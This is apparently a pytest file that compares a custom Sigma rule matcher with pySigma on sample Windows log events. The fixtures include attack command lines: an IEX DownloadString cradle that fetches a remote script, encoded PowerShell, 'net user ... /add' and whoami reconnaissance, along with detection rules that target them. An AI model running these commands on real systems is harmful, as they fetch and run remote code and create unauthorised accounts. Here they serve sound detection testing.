"""Our matcher and pySigma's parser agree: pySigma reads the same rule, applies the modifiers, and its tree is evaluated here on the same events."""

import base64
import ipaddress
import operator
import re
from collections.abc import Mapping
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from sigma.conditions import ConditionAND, ConditionFieldEqualsValueExpression, ConditionNOT, ConditionOR, ConditionValueExpression
from sigma.rule import SigmaRule
from sigma.types import (
    SigmaCasedString,
    SigmaCIDRExpression,
    SigmaCompareExpression,
    SigmaExists,
    SigmaExpansion,
    SigmaNull,
    SigmaRegularExpression,
    SigmaString,
    SpecialChars,
)

from analyzer.sigma.conditions import condition

EVENTS = [
    {"CommandLine": r"powershell.exe -NoP -Enc SQBFAFgA", "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "User": r"LAB\alice"},
    {"CommandLine": r"cmd /c whoami /all > C:\Temp\out.txt", "Image": r"C:\Windows\System32\cmd.exe", "Size": "42", "SourceIp": "10.1.2.3"},
    {"CommandLine": "net user bob P@ss* /add", "Image": r"C:\Windows\System32\net.exe", "Size": "7", "SourceIp": "192.168.0.9"},
    {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')", "User": "SYSTEM"},
    {"ScriptBlockText": base64.b64encode(b"xx" + "http://evil".encode("utf-16-le")).decode(), "Size": "abc"},
    {"CommandLine": "reg \u2013add HKLM\\x", "Image": ""},
    {"CommandLine": "wmic process call create", "Image": r"C:\Windows\System32\wbem\WMIC.exe", "Empty": ""},
    {"CommandLine": r"a\*b?c\\d", "Image": "x"},
    {"CommandLine": "one\ntwo\nthree"},
]
DETECTIONS: list[dict[str, object]] = [
    {"selection": {"CommandLine|contains": ["-enc", "whoami"]}, "condition": "selection"},
    {"selection": {"CommandLine|contains|all": ["-enc", "-nop"]}, "condition": "selection"},
    {"selection": {"Image|endswith": ["\\cmd.exe", "\\POWERSHELL.EXE"]}, "filter": {"User|startswith": "LAB\\"}, "condition": "selection and not filter"},
    {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"Image|endswith": "net.exe"}, "condition": "all of sel_*"},
    {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"User": "SYSTEM"}, "condition": "1 of sel_*"},
    {"sel_a": {"CommandLine|contains": "net"}, "_hidden": {"User": "SYSTEM"}, "condition": "1 of them"},
    {"sel_a": {"CommandLine|contains": "cmd"}, "sel_b": {"Size": 42}, "condition": "all of them"},
    {"a": {"User": "SYSTEM"}, "b": {"Size|gt": 7}, "c": {"Size|lte": 7}, "condition": "a or b and not c or (c and not a)"},
    {"selection": [{"User": "system"}, {"Size|gte": 42, "CommandLine|contains": "out"}], "condition": "selection"},
    {"keywords": ["DownloadString", "wmic*create"], "condition": "keywords"},
    {"keywords": {"|all": ["New-Object", "10.0.0.1"]}, "condition": "keywords"},
    {"selection": {"CommandLine|re": r"(?i)whoami\s+/(all|priv)"}, "condition": "selection"},
    {"selection": {"CommandLine|re": ".*whoami.*"}, "condition": "selection"},
    {"selection": {"CommandLine|re|i": "WHOAMI"}, "condition": "selection"},
    {"selection": {"CommandLine|re": "WHOAMI"}, "condition": "selection"},
    {"selection": {"CommandLine|re|m": "^two$"}, "condition": "selection"},
    {"selection": {"CommandLine|re|s": "one.two"}, "condition": "selection"},
    {"selection": {"ScriptBlockText|wide|base64offset|contains": "http://"}, "condition": "selection"},
    {"selection": {"ScriptBlockText|base64offset|contains": "http://"}, "condition": "selection"},
    {"selection": {"CommandLine|windash|contains": [" -add", "/nop"]}, "condition": "selection"},
    {"selection": {"CommandLine|contains|cased": "WMIC"}, "condition": "selection"},
    {"selection": {"Image|endswith|cased": "WMIC.exe"}, "condition": "selection"},
    {"selection": {"SourceIp|cidr": ["10.0.0.0/8", "fe80::/10"]}, "condition": "selection"},
    {"selection": {"Size|exists": True}, "condition": "selection"},
    {"selection": {"Size|exists": False}, "condition": "selection"},
    {"selection": {"CommandLine": r"a\\\*b\?c\\\\d"}, "condition": "selection"},
    {"selection": {"CommandLine": r"*P@ss\* *"}, "condition": "selection"},
    {"selection": {"CommandLine": "cmd*out.???"}, "condition": "selection"},
    {"selection": {"CommandLine": "cmd*out.??"}, "condition": "selection"},
    {"selection": {"CommandLine": "*one*two*"}, "condition": "selection"},
    {"selection": {"User": None}, "condition": "selection"},
    {"selection": {"CommandLine|contains": "C:\\Temp\\"}, "condition": "selection"},
    {"selection": {"User": ["SYSTEM", "LAB\\*"]}, "filter_main": {"Size|exists": True}, "condition": "selection and not 1 of filter_*"},
    {"selection": {"Size|lt": 10}, "condition": ["selection", "not selection"]},
]


def ours(detection: Mapping[str, object], event: Mapping[str, str]) -> bool:
    return condition(detection, detection["condition"])({name.lower(): (value,) for name, value in event.items()})


def theirs(detection: Mapping[str, object], event: Mapping[str, str]) -> bool:
    rule = SigmaRule.from_yaml(yaml.safe_dump({"title": "t", "logsource": {"product": "windows"}, "detection": dict(detection)}, allow_unicode=True))
    return any(_holds(parsed.parsed, event) for parsed in rule.detection.parsed_condition)


def _holds(node: Any, event: Mapping[str, str]) -> bool:  # noqa: ANN401  a tree of a library
    if isinstance(node, ConditionAND):
        return all(_holds(one, event) for one in node.args)
    if isinstance(node, ConditionOR):
        return any(_holds(one, event) for one in node.args)
    if isinstance(node, ConditionNOT):
        return not _holds(node.args[0], event)
    if isinstance(node, ConditionFieldEqualsValueExpression):
        return _fits(node.value, event.get(node.field))
    assert isinstance(node, ConditionValueExpression)
    return any(_fits(node.value, text, anywhere=True) for text in event.values())


def _fits(value: Any, text: str | None, *, anywhere: bool = False) -> bool:  # noqa: ANN401, PLR0911
    if isinstance(value, SigmaExists):
        return (text is not None) is bool(value)
    if isinstance(value, SigmaNull):
        return text is None
    if text is None:
        return False
    if isinstance(value, SigmaExpansion):
        return any(_fits(one, text) for one in value.values)
    if isinstance(value, SigmaRegularExpression):
        flags = sum({"IGNORECASE": re.IGNORECASE, "MULTILINE": re.MULTILINE, "DOTALL": re.DOTALL}[flag.name] for flag in value.flags)
        return re.search(str(value.regexp), text, flags) is not None
    if isinstance(value, SigmaCIDRExpression):
        try:
            return ipaddress.ip_address(text) in value.network
        except ValueError:
            return False
    if isinstance(value, SigmaCompareExpression):
        compare = getattr(operator, {"LTE": "le", "GTE": "ge"}.get(value.op.name, value.op.name.lower()))
        return text.isdigit() and bool(compare(int(text), float(str(value.number))))
    if not isinstance(value, SigmaString):
        return text == str(value)
    wild: dict[object, str] = {SpecialChars.WILDCARD_MULTI: ".*", SpecialChars.WILDCARD_SINGLE: "."}
    pattern = "".join(re.escape(part) if isinstance(part, str) else wild[part] for part in value.s)
    pattern = f".*{pattern}.*" if anywhere else pattern
    return re.fullmatch(pattern, text, re.DOTALL | (0 if isinstance(value, SigmaCasedString) else re.IGNORECASE)) is not None


@pytest.mark.parametrize("detection", DETECTIONS, ids=str)
def test_the_same_rules_fit_the_same_events(detection: Mapping[str, object]) -> None:
    assert [ours(detection, event) for event in EVENTS] == [theirs(detection, event) for event in EVENTS]


def test_the_events_tell_the_rules_apart() -> None:
    outcomes = [tuple(ours(detection, event) for event in EVENTS) for detection in DETECTIONS]
    assert sum(any(outcome) and not all(outcome) for outcome in outcomes) >= len(DETECTIONS) - 6


texts = st.text("aB*?\\-/ .", max_size=8)


@given(texts.filter(bool), texts, st.sampled_from(["", "|contains", "|startswith", "|endswith", "|cased", "|contains|cased"]))
def test_any_pattern_means_the_same(wanted: str, text: str, modifier: str) -> None:
    detection = {"selection": {f"CommandLine{modifier}": wanted}, "condition": "selection"}
    assert ours(detection, {"CommandLine": text}) == theirs(detection, {"CommandLine": text})


def _longer(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(inner.map(lambda one: f"not ({one})"), st.tuples(inner, st.sampled_from(["and", "or"]), inner).map(" ".join))


@given(st.recursive(st.sampled_from("abc"), _longer))
def test_any_condition_means_the_same(wanted: str) -> None:
    detection: dict[str, object] = {name: {"CommandLine|contains": name} for name in "abc"}
    detection["condition"] = wanted
    for text in ("", "a", "b", "ab", "bc", "abc"):
        assert ours(detection, {"CommandLine": text}) == theirs(detection, {"CommandLine": text})
